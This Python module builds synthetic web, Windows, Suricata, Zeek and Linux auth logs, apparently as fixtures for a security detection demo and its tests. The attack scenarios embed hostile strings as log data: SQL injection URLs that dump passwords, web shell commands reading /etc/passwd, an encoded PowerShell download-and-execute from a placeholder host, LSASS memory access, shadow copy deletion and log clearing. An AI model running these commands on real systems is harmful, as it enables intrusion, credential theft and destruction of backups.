"""What would the logs of a city look like on a quiet day, and on the day of an attack?

Synthetic logs for the demo and the tests: nothing in them was ever anybody's. The same seed and the same
arguments give the same bytes. Times begin at `start`; clients are private or documentation addresses.
"""

from __future__ import annotations

import base64
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta, timezone
from random import Random
from typing import Any

import orjson

LOCAL = timezone(timedelta(hours=7))
PAGES = (
    "/",
    "/tin-tuc",
    "/tin-tuc/lich-tiep-cong-dan-thang-11",
    "/thu-tuc-hanh-chinh",
    "/thu-tuc-hanh-chinh/dang-ky-khai-sinh",
    "/van-ban?loai=quyet-dinh&trang=2",
    "/tim-kiem?q=h%C3%B4+kh%E1%BA%A9u",
    "/lien-he",
    "/css/style.css",
    "/js/app.js",
    "/images/logo.png",
    "/files/bieu-mau-01.docx",
)
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 Chrome/141.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)
INJECTION = (
    "/tin.php?id=7%27",
    "/tin.php?id=7%20AND%201=1",
    "/tin.php?id=-7%20UNION%20SELECT%201,2,3--%20-",
    "/tin.php?id=-7+UNION+ALL+SELECT+NULL,CONCAT(user,0x3a,password),NULL+FROM+users--+-",
    "/tin.php?id=7%20AND%20SLEEP(5)",
)
SHELL = (
    ("POST", "/admin/upload.php", 200, 312),
    ("GET", "/uploads/anh-bia.php", 200, 0),
    ("POST", "/uploads/anh-bia.php?cmd=id", 200, 54),
    ("GET", "/uploads/anh-bia.php?cmd=cat+/etc/passwd", 200, 2210),
)
SYSMON = "Microsoft-Windows-Sysmon/Operational"
MICROSOFT = "Microsoft-Windows-"


def access_log(
    *,
    start: datetime,
    domain: str,
    attacker: str = "203.0.113.66",
    visits: int = 300,
    attack: bool = True,
    seed: int = 1,
) -> bytes:
    """An access log (virtual host, then combined) of about `visits` seconds.

    The attack: SQL injection on a news page by a scanner, an upload, commands through the uploaded web shell.
    """
    dice = Random(seed)  # noqa: S311 - repeatable, guards nothing
    rows = [(start + timedelta(seconds=second), _visit(dice)) for second in range(visits)]
    if attack:
        rows += _web_attack(start + timedelta(seconds=visits // 2), attacker)
    rows.sort(key=lambda row: row[0])
    return b"".join(_access_line(domain, at, row).encode() for at, row in rows)


_Row = tuple[str, str, str, int, int, str]
"""Client, method, target, status, bytes, agent."""


def _visit(dice: Random) -> _Row:
    client = f"10.{dice.randrange(60, 90)}.{dice.randrange(256)}.{dice.randrange(1, 255)}"
    status = dice.choices((200, 304, 404), (90, 8, 2))[0]
    size = dice.randrange(400, 60_000) if status == 200 else 0  # noqa: PLR2004 - HTTP's own number
    return client, "GET", dice.choice(PAGES), status, size, dice.choice(BROWSERS)


def _web_attack(start: datetime, attacker: str) -> Iterator[tuple[datetime, _Row]]:
    for step, target in enumerate(INJECTION):
        status = 500 if step == 0 else 200
        yield (
            start + timedelta(seconds=step),
            (attacker, "GET", target, status, 5120, "sqlmap/1.9 (https://sqlmap.org)"),
        )
    for step, (method, target, status, size) in enumerate(SHELL):
        yield start + timedelta(seconds=60 + 5 * step), (attacker, method, target, status, size, BROWSERS[0])


def _access_line(domain: str, at: datetime, row: _Row) -> str:
    client, method, target, status, size, agent = row
    when = at.astimezone(LOCAL).strftime("%d/%b/%Y:%H:%M:%S %z")
    return f'{domain}:443 {client} - - [{when}] "{method} {target} HTTP/1.1" {status} {size} "-" "{agent}"\n'


# -- Windows ---------------------------------------------------------------------------------------------


def windows_log(
    *,
    start: datetime,
    computer: str,
    attacker: str = "10.99.0.23",
    noise: int = 200,
    attack: bool = True,
    seed: int = 1,
) -> bytes:
    """NDJSON as Winlogbeat writes it, of a workstation or server, about `noise` seconds.

    The attack: many accounts tried with few passwords until one opens, an encoded PowerShell, a service from
    a temporary folder, the memory of the password keeper read, shadow copies deleted, the log cleared.
    """
    dice = Random(seed)  # noqa: S311 - repeatable, guards nothing
    rows = [(start + timedelta(seconds=second), _office(dice)) for second in range(noise)]
    if attack:
        rows += _host_attack(start + timedelta(seconds=noise // 2), attacker)
    rows.sort(key=lambda row: row[0])
    return b"".join(_beat(at, computer, number, row) for number, (at, row) in enumerate(rows, start=1000))


_Record = tuple[str, str, int, dict[str, Any]]
"""Channel, provider, event number, data."""


def _process(
    image: str, line: str, parent: str = r"C:\Windows\explorer.exe", user: str = r"CITY\lan.nt"
) -> _Record:
    data = {
        "UtcTime": "-",
        "Image": image,
        "OriginalFileName": image.rpartition("\\")[2],
        "CommandLine": line,
        "CurrentDirectory": "C:\\Windows\\System32\\",
        "User": user,
        "IntegrityLevel": "Medium",
        "ParentImage": parent,
        "ParentCommandLine": parent,
        "ProcessId": "4112",
    }
    return SYSMON, f"{MICROSOFT}Sysmon", 1, data


def _login(code: int, account: str, address: str, kind: str = "3") -> _Record:
    data = {
        "TargetUserName": account,
        "TargetDomainName": "CITY",
        "LogonType": kind,
        "IpAddress": address,
        "IpPort": "50123",
        "AuthenticationPackageName": "NTLM",
        **({"Status": "0xc000006d", "SubStatus": "0xc000006a"} if code == 4625 else {}),  # noqa: PLR2004
    }
    return "Security", f"{MICROSOFT}Security-Auditing", code, data


def _office(dice: Random) -> _Record:
    turn = dice.randrange(10)
    if turn < 6:  # noqa: PLR2004 - most of an office's day is programs
        image, line = dice.choice(
            (
                (
                    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                    "WINWORD.EXE bao-cao-thang.docx",
                ),
                (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer"),
                (r"C:\Windows\System32\notepad.exe", "notepad.exe ghi-chu.txt"),
                (r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
            )
        )
        return _process(image, line)
    if turn < 9:  # noqa: PLR2004 - then logins
        return _login(
            4624, dice.choice(("lan.nt", "minh.tv", "backup-svc")), f"10.20.3.{dice.randrange(2, 200)}"
        )
    return _login(4625, "minh.tv", f"10.20.3.{dice.randrange(2, 200)}", "2")


def _host_attack(start: datetime, attacker: str) -> Iterator[tuple[datetime, _Record]]:
    accounts = (
        "admin",
        "lan.nt",
        "minh.tv",
        "hoa.pt",
        "ketoan",
        "vanthu",
        "tuan.nq",
        "mai.lt",
        "quang.dv",
        "it",
        "sql",
        "hung.vm",
    )
    for step, account in enumerate(accounts):
        yield start + timedelta(seconds=step), _login(4625, account, attacker)
    code = base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a')".encode("utf-16-le")
    )
    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    system = "NT AUTHORITY\\SYSTEM"
    service = {"ServiceName": "WinUpd", "ImagePath": r"C:\Windows\Temp\upd.exe", "StartType": "auto start"}
    memory = {
        "SourceImage": r"C:\Windows\Temp\upd.exe",
        "TargetImage": r"C:\Windows\System32\lsass.exe",
        "GrantedAccess": "0x1410",
        "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\Temp\upd.exe+21ab",
    }
    story: tuple[_Record, ...] = (
        _login(4624, "ketoan", attacker),
        _process(
            shell, f"powershell.exe -nop -w hidden -enc {code.decode()}", r"C:\Windows\System32\cmd.exe"
        ),
        ("System", "Service Control Manager", 7045, service),
        (SYSMON, f"{MICROSOFT}Sysmon", 10, memory),
        _process(
            r"C:\Windows\System32\vssadmin.exe",
            "vssadmin delete shadows /all /quiet",
            r"C:\Windows\Temp\upd.exe",
            system,
        ),
        (
            "Security",
            f"{MICROSOFT}Eventlog",
            1102,
            {"SubjectUserName": "ketoan", "SubjectDomainName": "CITY"},
        ),
    )
    for step, record in enumerate(story):
        yield start + timedelta(seconds=20 + 6 * step), record


def _beat(at: datetime, computer: str, number: int, row: _Record) -> bytes:
    channel, provider, code, data = row
    moment = at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")[:23] + "Z"
    record = {
        "@timestamp": moment,
        "agent": {"type": "winlogbeat"},
        "event": {"code": str(code), "provider": provider},
        "host": {"name": computer},
        "log": {"level": "information"},
        "winlog": {
            "channel": channel,
            "computer_name": computer,
            "event_data": data,
            "event_id": str(code),
            "provider_name": provider,
            "record_id": number,
        },
    }
    return orjson.dumps(record, option=orjson.OPT_APPEND_NEWLINE)


# -- Suricata and Zeek -----------------------------------------------------------------------------------


def eve_log(
    *,
    start: datetime,
    server: str,
    attacker: str = "203.0.113.66",
    noise: int = 100,
    attack: bool = True,
    seed: int = 1,
) -> bytes:
    """EVE lines of a link before `server`: dns, http, tls; the attack adds an injection and its alert."""
    dice = Random(seed)  # noqa: S311 - repeatable, guards nothing
    rows = [(start + timedelta(seconds=second), _eve_row(dice, server)) for second in range(noise)]
    if attack:
        request = {
            "hostname": "portal.example",
            "url": INJECTION[3],
            "http_method": "GET",
            "http_user_agent": "sqlmap/1.9",
        }
        request |= {"protocol": "HTTP/1.1", "status": 200, "length": 5120}
        verdict = {"signature_id": 9900001, "gid": 1, "rev": 1, "severity": 1, "action": "allowed"}
        verdict |= {"signature": "CITY test: UNION SELECT in URI", "category": "Web Application Attack"}
        ends = {"src_ip": attacker, "src_port": 40123, "dest_ip": server, "dest_port": 80, "proto": "TCP"}
        at = start + timedelta(seconds=noise // 2)
        rows.append((at, {"event_type": "http", **ends, "http": request}))
        rows.append((at, {"event_type": "alert", **ends, "alert": verdict, "http": request}))
    rows.sort(key=lambda row: row[0])
    return b"".join(
        orjson.dumps({"timestamp": _eve_time(at), **row}, option=orjson.OPT_APPEND_NEWLINE)
        for at, row in rows
    )


def _eve_time(at: datetime) -> str:
    return at.astimezone(LOCAL).strftime("%Y-%m-%dT%H:%M:%S.%f%z")


def _eve_row(dice: Random, server: str) -> dict[str, Any]:
    client, port = f"10.20.1.{dice.randrange(2, 250)}", dice.randrange(32_768, 61_000)
    ends = {"flow_id": dice.getrandbits(50), "src_ip": client, "src_port": port, "proto": "TCP"}
    turn = dice.randrange(3)
    if turn == 0:
        ends |= {"dest_ip": "10.20.1.1", "dest_port": 53, "proto": "UDP"}
        return {
            "event_type": "dns",
            **ends,
            "dns": {"type": "query", "id": dice.getrandbits(16), "rrname": "www.city.example", "rrtype": "A"},
        }
    if turn == 1:
        ends |= {"dest_ip": server, "dest_port": 80}
        request = {
            "hostname": "portal.example",
            "url": dice.choice(PAGES),
            "http_method": "GET",
            "status": 200,
        }
        return {"event_type": "http", **ends, "http": {**request, "protocol": "HTTP/1.1", "length": 2048}}
    ends |= {"dest_ip": server, "dest_port": 443}
    return {"event_type": "tls", **ends, "tls": {"sni": "portal.example", "version": "TLS 1.3"}}


def zeek_log(*, start: datetime, server: str, noise: int = 100, seed: int = 1) -> bytes:
    """Lines of Zeek's conn log as JSON: quiet traffic to `server`."""
    dice = Random(seed)  # noqa: S311 - repeatable, guards nothing
    return b"".join(_zeek_lines(dice, start.timestamp(), server, noise))


def _zeek_lines(dice: Random, start: float, server: str, noise: int) -> Iterable[bytes]:
    for second in range(noise):
        size = dice.randrange(500, 50_000)
        record = {
            "_path": "conn",
            "ts": start + second,
            "uid": f"C{dice.getrandbits(60):015x}",
            "id.orig_h": f"10.20.1.{dice.randrange(2, 250)}",
            "id.orig_p": dice.randrange(32_768, 61_000),
            "id.resp_h": server,
            "id.resp_p": 443,
            "proto": "tcp",
            "service": "ssl",
            "duration": round(dice.random() * 5, 6),
            "orig_bytes": 700,
            "resp_bytes": size,
            "conn_state": "SF",
            "history": "ShADadFf",
            "orig_pkts": 9,
            "orig_ip_bytes": 1180,
            "resp_pkts": size // 1400 + 4,
            "resp_ip_bytes": size + 400,
        }
        yield orjson.dumps(record, option=orjson.OPT_APPEND_NEWLINE)


# -- Linux -----------------------------------------------------------------------------------------------


def auth_log(
    *,
    start: datetime,
    host: str,
    attacker: str = "203.0.113.66",
    noise: int = 60,
    attack: bool = True,
    seed: int = 1,
) -> bytes:
    """A Linux server's auth.log; the attack: SSH passwords guessed until one opens, then sudo to a shell."""
    dice = Random(seed)  # noqa: S311 - repeatable, guards nothing
    rows = [(start + timedelta(minutes=minute), _server_day(dice)) for minute in range(noise)]
    if attack:
        begin = start + timedelta(minutes=noise // 2)
        for step in range(20):
            account = dice.choice(("root", "admin", "oracle", "test"))
            failed = f"Failed password for invalid user {account} from {attacker} port {50_000 + step} ssh2"
            line = f"sshd[{3000 + step}]: {failed}"
            rows.append((begin + timedelta(seconds=step), line))
        opened = f"sshd[3100]: Accepted password for webadmin from {attacker} port 50100 ssh2"
        rows.append((begin + timedelta(seconds=21), opened))
        sudo = "sudo: webadmin : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash"
        rows.append((begin + timedelta(seconds=40), sudo))
    rows.sort(key=lambda row: row[0])
    return b"".join(
        f"{at.astimezone(LOCAL).isoformat(timespec='microseconds')} {host} {line}\n".encode()
        for at, line in rows
    )


def _server_day(dice: Random) -> str:
    return dice.choice(
        (
            "CRON[811]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            "sshd[900]: Accepted publickey for backup from 10.20.0.5 port 40100 ssh2: ED25519 SHA256:abc",
            "systemd-logind[510]: New session 12 of user backup.",
            "sudo: ops : TTY=pts/1 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
        )
    )
